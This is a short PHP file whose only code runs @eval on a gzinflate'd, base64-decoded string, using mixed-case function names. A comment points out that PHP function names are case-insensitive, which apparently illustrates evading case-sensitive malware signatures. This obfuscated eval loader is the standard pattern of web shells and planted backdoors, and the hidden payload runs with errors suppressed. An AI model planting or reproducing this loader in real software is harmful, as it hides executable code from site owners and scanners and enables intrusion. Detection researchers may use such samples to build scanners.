<?php
// PHP function names are case-insensitive
@EvAl(GzInflate(Base64_Decode("K64sLknN1VCJd3cNiVZPVo/VtAYA")));
?>
